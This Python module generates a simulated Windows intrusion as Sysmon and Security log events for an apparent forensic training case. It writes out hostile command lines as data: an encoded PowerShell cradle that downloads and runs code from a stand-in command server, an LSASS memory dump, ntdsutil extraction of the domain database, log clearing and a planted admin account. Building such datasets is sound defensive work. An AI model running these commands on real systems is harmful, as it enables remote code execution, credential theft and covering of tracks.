"""What the intruder did on the Windows machines, as their logs tell it."""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import datetime
from typing import Any, Final

from cases.demo import windows_events as events
from cases.demo import world
from cases.demo.windows_events import Event

Moment = tuple[datetime, Event]

_CHROME: Final = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_EXPLORER: Final = r"C:\Windows\explorer.exe"
_WSCRIPT: Final = r"C:\Windows\System32\wscript.exe"
_POWERSHELL: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD: Final = r"C:\Windows\System32\cmd.exe"
_TEMP: Final = rf"C:\Users\{world.VICTIM}\AppData\Local\Temp"
_IMPLANT: Final = rf"{_TEMP}\svchosts.exe"
_ARCHIVE: Final = rf"C:\Users\{world.VICTIM}\Downloads\Invoice_4471.zip"
_SCRIPT: Final = rf'"{_WSCRIPT}" "{_TEMP}\Temp1_Invoice_4471.zip\Invoice_4471.js"'
_CRADLE: Final = f"IEX (New-Object Net.WebClient).DownloadString('https://{world.COMMAND_SERVER}/a')"
_LOADER: Final = (
    f"powershell.exe -nop -w hidden -enc {base64.b64encode(_CRADLE.encode('utf-16-le')).decode()}"
)
_DUMP: Final = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 648 C:\Windows\Temp\lsass.dmp full"


def on_workstation_sysmon() -> list[Moment]:
    """Return the intrusion as WS-017's Sysmon saw it."""
    return [_at(clock, kind, *values) for clock, kind, *values in _sysmon_steps()]


def _at(clock: str, kind: str, *values: Any) -> Moment:
    moment = world.at(clock)
    return moment, _MAKERS[kind](moment, *values)


_MAKERS: Final[dict[str, Callable[..., Event]]] = {
    "process": events.sysmon_process,
    "file": events.sysmon_file,
    "stream": events.sysmon_stream,
    "dns": events.sysmon_dns,
    "network": events.sysmon_network,
    "registry": events.sysmon_registry,
    "access": events.sysmon_access,
}


def _sysmon_steps() -> list[tuple[Any, ...]]:
    run_key = rf"HKU\{world.SIDS[world.VICTIM]}\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveSync"
    origin = f"[ZoneTransfer]  ZoneId=3  HostUrl=https://{world.PHISHING}/files/Invoice_4471.zip"
    command, attacker = world.COMMAND_SERVER, world.ATTACKER_IP
    return [
        # Delivery
        ("08:42:06.118", "file", _CHROME, _ARCHIVE, 6_120),
        ("08:42:06.121", "stream", _CHROME, _ARCHIVE, origin, 6_120),
        # Execution
        ("08:43:10.402", "process", _WSCRIPT, _SCRIPT, _EXPLORER, 7_004),
        ("08:43:14.877", "process", _POWERSHELL, _LOADER, _WSCRIPT, 7_112),
        ("08:43:16.240", "dns", _POWERSHELL, command, attacker, 7_112),
        ("08:43:16.910", "network", _POWERSHELL, 51_544, attacker, command, 7_112),
        ("08:43:25.033", "file", _POWERSHELL, _IMPLANT, 7_112),
        ("08:43:31.559", "process", _IMPLANT, "svchosts.exe -s", _POWERSHELL, 7_340),
        # Persistence
        ("08:44:02.004", "registry", _IMPLANT, run_key, _IMPLANT, 7_340),
        # Discovery
        ("08:50:11.730", "process", r"C:\Windows\System32\whoami.exe", "whoami /all", _CMD, 7_512),
        (
            "08:50:40.115", "process", r"C:\Windows\System32\net.exe",
            'net group "Domain Admins" /domain', _CMD, 7_520,
        ),
        # Credentials
        ("09:02:10.900", "process", r"C:\Windows\System32\rundll32.exe", _DUMP, _IMPLANT, 7_704),
        (
            "09:02:11.301", "access", r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\System32\lsass.exe", 0x1010, 7_704,
        ),
        (
            "09:02:12.044", "file", r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\Temp\lsass.dmp", 7_704,
        ),
        # Onward
        (
            "09:20:21.300", "process", r"C:\Windows\System32\mstsc.exe",
            "mstsc.exe /v:SRV-DC1", _IMPLANT, 7_912,
        ),
        # Traces removed
        ("10:30:58.610", "process", r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security", _CMD, 8_020),
    ]  # fmt: skip


def on_workstation_security() -> list[Moment]:
    """Return what is left in WS-017's Security log: that it was cleared, and by whom."""
    return [(world.at("10:30:59.020"), events.log_cleared(world.VICTIM))]


def on_server() -> list[Moment]:
    """Return the intrusion as the Security log of the server tells it."""
    service, planted, source = world.SERVICE, world.PLANTED, world.WORKSTATION_IP
    sid = world.SIDS[service]
    by_network = events.logon(service, "NORDLICHT", sid, 0x8C2F41, 3, source, "WS-017", "NtLmSsp ", "-")
    by_desktop = events.logon(
        service, "NORDLICHT", sid, 0x8D1107, 10, source, "SRV-DC1", "User32 ", "SRV-DC1$"
    )
    ntds = r'ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q'
    key = r"plink.exe -ssh deploy@10.20.5.20 -pw ********"
    return [
        (world.at("09:15:02.118"), events.logon_failed("administrator", source, 3)),
        (world.at("09:15:09.870"), events.logon_failed(service, source, 3)),
        (world.at("09:15:31.402"), events.logon_failed(service, source, 3)),
        (world.at("09:16:40.255"), by_network),
        (world.at("09:16:40.256"), events.privileges(service, "NORDLICHT", sid, 0x8C2F41)),
        (world.at("09:17:01.004"), events.share_accessed(service, source, r"\\*\ADMIN$")),
        (
            world.at("09:17:05.990"),
            events.service_installed(service, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
        ),
        (world.at("09:20:33.417"), by_desktop),
        (
            world.at("09:24:18.033"),
            events.process_created(service, r"C:\Windows\System32\ntdsutil.exe", ntds, _CMD, 0x1F2C),
        ),
        (world.at("09:27:44.600"), events.account_created(planted, service)),
        (world.at("09:27:58.214"), events.member_added(planted, "Domain Admins", service)),
        (
            world.at("09:41:12.700"),
            events.process_created(service, r"C:\Windows\Temp\plink.exe", key, _CMD, 0x2210),
        ),
    ]
